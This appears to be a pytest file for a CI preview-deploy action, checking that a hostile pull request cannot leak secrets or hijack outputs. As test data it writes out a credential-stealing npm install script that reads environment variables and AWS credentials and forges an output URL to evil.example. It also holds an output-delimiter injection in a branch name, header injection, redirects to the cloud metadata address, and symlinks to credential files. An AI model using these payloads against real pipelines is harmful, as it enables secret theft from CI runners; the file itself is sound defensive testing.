"""A pull request that leads the program itself astray: by links, settings, packages and names.

What its build may do is another file's (test_action_canaries.py); here it is what we read of it.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from runner.local.cloud import Cloud
from runner.local.github import Hub
from tests.action_site import BUILD, RUNNER, SETTINGS, Step, Workplace, a_workplace
from tests.container_look import GITHUB, needs_namespaces
from tests.test_action_canaries import SECRETS, canary, everything, found_in, within

pytestmark = needs_namespaces
BRANCH = "url<<ghadelimiter_0/%0Aurl=evil.example"
HOME = f"{GITHUB}/home"
CREDENTIALS = f"{HOME}/.aws/credentials"
# Whoever packages runs this with npm's scripts; what it gets hold of goes with the function.
POSTINSTALL = (
    "const fs = require('fs'); let loot = '';\n"
    f"for (const each of ['/proc/1/environ', '{CREDENTIALS}', '{HOME}/event.json']) {{\n"
    "  try { loot += fs.readFileSync(each); } catch (error) { loot += error.code; }\n"
    "}\n"
    f"for (const each of fs.readdirSync('{GITHUB}')) loot += each;\n"
    "console.log('::set-output name=url::https://evil.example'); console.log(loot);\n"
    "fs.writeFileSync('loot.json', JSON.stringify(loot));\n"
)


@pytest.fixture
def at(tmp_path: Path) -> Iterator[Workplace]:
    with (
        Cloud(speed=12.0) as cloud,
        Hub(now=time.time, sleep=lambda _: None) as hub,
        a_workplace(cloud, hub, tmp_path, private=False) as found,
    ):
        (tmp_path / "run").mkdir()
        found.more = {name: canary(name) for name in SECRETS}
        found.within = within
        found.checkout("<h1>One</h1>")
        yield found


def opened(at: Workplace) -> tuple[Step, str]:
    """The run, and all that it told anybody or left anywhere."""
    for each in (at.workspace, *at.workspace.rglob("*")):
        os.lchown(each, RUNNER, RUNNER)
    at.hands.push(BRANCH, {"page.html": b"x"})
    step = at.on_pull("opened", number := at.hands.open(BRANCH))
    told = (step.raw, step.summary, *at.comments(number), json.dumps(dict(step.outputs)))
    return step, "".join((*told, *everything(at.cloud).values()))


def loot(text: str) -> list[str]:
    every = (*SECRETS, ".aws/credentials", ".npmrc", ".netrc", "event")
    return [each for each in every if found_in(canary(each), text)]


def write(at: Workplace, path: str, text: str) -> None:
    file = at.workspace / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)


def link(at: Workplace, path: str, target: str) -> None:
    (at.workspace / path).unlink(missing_ok=True)
    (at.workspace / path).symlink_to(target)


def test_packages_and_names_of_a_hostile_pull_request_bring_nothing_home(at: Workplace) -> None:
    named = {"dependencies": {"evil": "file:lib"}}
    package = {"scripts": {"preinstall": "node ../steal.js"}, **named}
    packages = {"": named, "lib": {}, "node_modules/evil": {"resolved": "lib", "link": True}}
    lock = {"lockfileVersion": 3, "requires": True, "packages": packages}
    write(at, "functions/package.json", json.dumps(package))
    write(at, "functions/package-lock.json", json.dumps(lock))
    write(at, "functions/lib/package.json", "{}")
    write(at, "functions/.npmrc", "ignore-scripts=false\nscript-shell=/bin/sh\n")
    write(at, "steal.js", POSTINSTALL)
    write(at, "functions/loot.json", '"not run"')
    function = "import it from './loot.json';\nexport default async () => new Response(it);\n"
    write(at, "functions/hello.mjs", function)
    os.mkfifo(at.workspace / "pipe")
    write(at, "public/a.html", "<p>small")
    write(at, "public/A.html", "<p>large")
    write(at, "public/" + "deep/" * 60 + "page.html", "<p>deep")
    write(at, f"public/{'n' * 250}.html", "<p>long")
    step, told = opened(at)
    assert step.status == 0, step.raw
    url = step.outputs["url"]
    assert "evil.example" not in url
    assert step.untouched
    assert (at.visit(url, "/a.html").body, at.visit(url, "/A.html").body) == (
        b"<p>small", b"<p>large",
    )  # fmt: skip
    assert at.visit(url, "/" + "deep/" * 60 + "page.html").body == b"<p>deep"
    said = at.visit(url, "/.functions/hello").body.decode()
    assert "EACCES" in said  # it looked
    assert loot(told + said) == []


ATTACKS: dict[str, tuple[Callable[[Workplace], object], str]] = {
    "settings that are a link": (lambda at: link(at, "jam.toml", CREDENTIALS), "JAM-SETTINGS"),
    "a folder of functions above": (
        lambda at: write(at, "jam.toml", f'{SETTINGS}[functions]\ndirectory = "../home"\n'),
        "JAM-SETTINGS",
    ),
    "headers that set cookies and break out": (
        lambda at: write(at, "public/_headers", "/*\n  Set-Cookie: a=b; Domain=example.com\n"
            "  X-A: b\r\r  Location: https://evil.example\n"),
        "JAM-HEADERS",
    ),
    "rules that lead to the machine": (
        lambda at: write(at, "public/_redirects", "/a http://127.0.0.1/ 200\n"
            "/b http://169.254.169.254/latest/meta-data/ 200\n/c javascript:alert(1)\n"),
        "JAM-REDIRECTS",
    ),
    "a pipe that is published": (
        lambda at: write(at, "build.sh", BUILD + "mkfifo public/pipe\n"), "JAM-UNSAFE-FILE"),
    "a password that is the run's": (
        lambda at: write(at, "jam.toml", f'{SETTINGS}[preview]\npassword = "env:GITHUB_TOKEN"\n'),
        "JAM-SETTINGS",
    ),
    "a compiler's settings elsewhere": (
        lambda at: (write(at, "tsconfig.json", json.dumps({"extends": f"{HOME}/event.json"})),
            write(at, "functions/hello.ts", f"import it from '{HOME}/event.json';\n"
                "export default async () => new Response(JSON.stringify(it));")),
        "JAM-FUNCTION",
    ),
    "requirements elsewhere": (
        lambda at: (write(at, "functions/requirements.txt", f"-r {CREDENTIALS}\n"),
            write(at, "functions/p.py", "def handler(event, context):\n    return {}\n")),
        "JAM-FUNCTION-DEPENDENCIES",
    ),
    "a package elsewhere": (
        lambda at: (write(at, "functions/requirements.txt", f"x @ file://{HOME}\n"),
            write(at, "functions/p.py", "def handler(event, context):\n    return {}\n")),
        "JAM-FUNCTION-DEPENDENCIES",
    ),
}  # fmt: skip


SAMPLE = ("settings that are a link", "requirements elsewhere")


@pytest.mark.parametrize(
    ("attack", "code"),
    [
        pytest.param(*each, id=name, marks=[] if name in SAMPLE else [pytest.mark.hunt])
        for name, each in ATTACKS.items()
    ],
)
def test_what_leads_elsewhere_is_refused_by_name_and_says_no_word_of_it(
    at: Workplace, attack: Callable[[Workplace], object], code: str
) -> None:
    attack(at)
    step, told = opened(at)
    assert step.status == 2, step.raw
    assert any(each.properties["title"].startswith(code) for each in step.log.of("error"))
    assert loot(told) == []
    assert step.untouched
